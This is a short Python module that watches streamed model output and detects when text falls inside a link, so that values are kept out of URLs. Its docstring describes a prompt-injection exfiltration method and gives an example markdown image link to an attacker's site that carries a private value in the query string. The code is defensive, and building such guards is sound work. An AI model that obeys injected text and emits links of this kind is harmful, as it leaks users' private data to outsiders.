r"""Is a place of a growing text inside a link? Values must never be put there.

Whoever can slip a model a text (a page, a document) can have it write `![](https://their.site/?q=<EMAIL_1>)`:
with the value in it, showing the answer would send it to them. Better one link too many than one too few.
"""

import re

_TAIL = 24
# How a link begins, with what opens it: a scheme, `//host`, `www.`; slashes may be escaped for JSON.
_START = re.compile(
    r"(?P<open>\\?[\"']|<|)(?:[a-z][a-z0-9+.-]{1,15}:(?:\\?/|\\)|https?:|data:|javascript:|(?:\\?[/\\]){2}|www\.)",
    re.IGNORECASE,
)
_MAY_START = re.compile(r"[:/\\.]")  # every start ends in one of these
# What ends it: what opened it (spaces may be inside then), else white space or a quotation mark.
_ENDS = {
    '"': re.compile(r'(?<!\\)"'),
    "'": re.compile(r"(?<!\\)'"),
    '\\"': re.compile('"'),
    "\\'": re.compile("'"),
    "<": re.compile(r"[>\n]"),
    "": re.compile(r"\s|(?<!\\)[\"<>]"),
}


class LinkWatch:
    """Reads a text in pieces; `is_inside` says whether what comes next continues a link."""

    def __init__(self) -> None:
        self._end: re.Pattern[str] | None = None
        self._tail = ""

    @property
    def is_inside(self) -> bool:
        return self._end is not None

    def read(self, text: str) -> None:
        """Takes in the next piece. Any split of a text gives the same; linear."""
        if self._end is None and not _MAY_START.search(text):
            self._tail = (self._tail + text)[-_TAIL:]
            return
        text, place = self._tail + text, len(self._tail) if self._end else 0
        while place <= len(text):
            if self._end is not None:
                over = self._end.search(text, place)
                if over is None:
                    break
                self._end, place = None, over.start()
            start = _START.search(text, place)
            if start is None:
                break
            self._end, place = _ENDS[start["open"]], start.end()
        self._tail = text[max(place, len(text) - _TAIL) :] if self._end is None else text[-1:]
